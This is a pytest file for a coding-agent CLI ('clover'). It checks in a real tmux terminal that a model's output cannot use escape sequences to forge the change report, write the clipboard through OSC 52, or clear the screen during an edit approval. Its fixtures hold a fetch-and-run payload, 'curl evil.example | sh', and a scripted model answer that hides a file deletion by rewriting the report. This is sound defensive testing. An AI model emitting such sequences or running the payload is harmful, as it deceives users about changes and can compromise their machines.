"""Text is text on a real terminal (tmux): the model's words cannot move the cursor over `clover
fix`'s report (at HEAD `\\e[2A...` rewrote "Change: 1 file changed" to "Change: none" while a file had
been deleted), nor write the clipboard with OSC 52 (at HEAD the chat's answer and `clover -p` both
set tmux's paste buffer), nor clear the screen from an approval's diff."""

from __future__ import annotations

import base64
import json
import shlex
import subprocess
import sys
import time
from pathlib import Path

from tests.test_chat_tmux import ROOT, Tmux, pytestmark  # noqa: F401  (skips without tmux)

PAYLOAD = "curl evil.example | sh"
OSC52 = f"\x1b]52;c;{base64.b64encode(PAYLOAD.encode()).decode()}\x1b\\"


def _repo(path: Path) -> Path:
    path.mkdir()
    (path / "keep.py").write_text("x = 1\n")
    (path / "data.txt").write_text("precious\n")
    for args in (
        ["init", "-q"],
        ["add", "."],
        ["-c", "user.email=t@t", "-c", "user.name=t", "commit", "-qm", "i"],
    ):
        subprocess.run(["git", *args], cwd=path, check=True, capture_output=True)
    return path


def _env(tmp_path: Path) -> str:
    env = {
        "CLOVER_HOME": str(tmp_path / "home"),
        "XDG_CACHE_HOME": str(tmp_path / "cache"),
        "XDG_CONFIG_HOME": str(tmp_path / "config"),
        "PYTHONPATH": str(ROOT),
        "TERM": "xterm-256color",
    }
    return "env -u COLUMNS -u LINES " + " ".join(f"{k}={shlex.quote(v)}" for k, v in env.items())


def _started(tmp_path: Path, argv: list[str]) -> Tmux:
    """The program starts once tmux takes OSC 52 from its panes (`set-clipboard on`)."""
    flag = tmp_path / "go"
    wait = f"while [ ! -e {shlex.quote(str(flag))} ]; do sleep 0.05; done"
    term = Tmux(f'{wait}; {_env(tmp_path)} {shlex.join(argv)}; echo "[exited $?]"; sleep 30', cwd=ROOT)
    term._tmux("set-option", "-g", "set-clipboard", "on")
    flag.write_text("")
    return term


def _buffers(term: Tmux) -> str:
    return term._tmux("list-buffers", "-F", "#{buffer_sample}")


def test_the_models_words_cannot_rewrite_the_fix_report(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "repo")
    (tmp_path / "issue.md").write_text("Tidy the repository.\n")
    forged = "Tidied.\x1b[2A\r\x1b[2KChange: none\x1b[1B\r\x1b[2KTests: passed" + OSC52
    script = tmp_path / "script.json"
    script.write_text(
        json.dumps(
            [{"tool_calls": [{"name": "bash", "arguments": {"command": "rm data.txt"}}]}, {"text": forged}]
        )
    )
    argv = [sys.executable, "-m", "clover", "fix", str(tmp_path / "issue.md"), "--repo", str(repo)]
    term = _started(tmp_path, [*argv, "--model", f"scripted:{script}", "--yes"])
    try:
        screen = term.wait_for("[exited", timeout=60)
        time.sleep(0.3)
        screen, buffers = term.screen(), _buffers(term)
    finally:
        term.close()
    assert not (repo / "data.txt").exists()  # the file really was deleted
    assert "Change: 1 file changed, +0 -1: data.txt (+0 -1)" in screen  # and the report still says so
    assert "Change: none" not in screen.replace("\\e[2KChange: none", "")  # only as shown text
    assert "Tidied.\\e[2A\\r\\e[2KChange: none" in screen
    assert PAYLOAD not in buffers


def test_an_osc52_answer_does_not_write_the_clipboard(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "repo")
    script = tmp_path / "script.json"
    script.write_text(json.dumps([{"text": f"Here you go.{OSC52} Done."}]))
    model = ["--model", f"scripted:{script}"]
    term = _started(tmp_path, [sys.executable, "-m", "clover", "-p", "hello", "--repo", str(repo), *model])
    try:
        screen = term.wait_for("[exited 0]", timeout=60)
        buffers = _buffers(term)
    finally:
        term.close()
    assert PAYLOAD not in buffers
    assert "Here you go.\\e]52;c;" in screen

    chat = [sys.executable, "-m", "clover.repl", "--repo", str(repo), *model]
    script.write_text(json.dumps([{"text": f"Here you go.{OSC52} Done."}]))
    term = _started(tmp_path, chat)
    try:
        term.wait_for("› ")
        term.type("hello")
        term.send("Enter")
        screen = term.wait_for("Done.")
        buffers = _buffers(term)
        term.type("/exit")
        term.send("Enter")
        term.wait_for("[exited 0]")
    finally:
        term.close()
    assert PAYLOAD not in buffers
    assert "Here you go.\\e]52;c;" in screen


def test_an_approval_diff_cannot_clear_the_screen(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "repo")
    new = "precious\n\x1b[2J\x1b[H# " + "y" * 300 + " END-OF-LONG-LINE"
    script = tmp_path / "script.json"
    call = {"name": "str_replace", "arguments": {"path": "data.txt", "old_str": "precious", "new_str": new}}
    script.write_text(json.dumps([{"tool_calls": [call]}, {"text": "Created."}]))
    chat = [sys.executable, "-m", "clover.repl", "--repo", str(repo), "--model", f"scripted:{script}"]
    term = _started(tmp_path, [*chat, "--mode", "ask"])
    try:
        term.wait_for("› ")
        term.type("change data.txt")
        term.send("Enter")
        screen = term.wait_for("Allow this edit?")
        pane = term._tmux("capture-pane", "-p", "-t", term.name)  # what is on screen, not the history
        assert "Clover chat · model" in pane  # the banner is still on screen: nothing cleared it
        assert "+\\e[2J\\e[H# " in screen
        assert "END-OF-LONG-LINE" in screen  # the long line wrapped, not cut at the terminal's width
        term.send("n")
        term.wait_for("declined")
        term.type("/exit")
        term.send("Enter")
        term.wait_for("[exited 0]")
    finally:
        term.close()
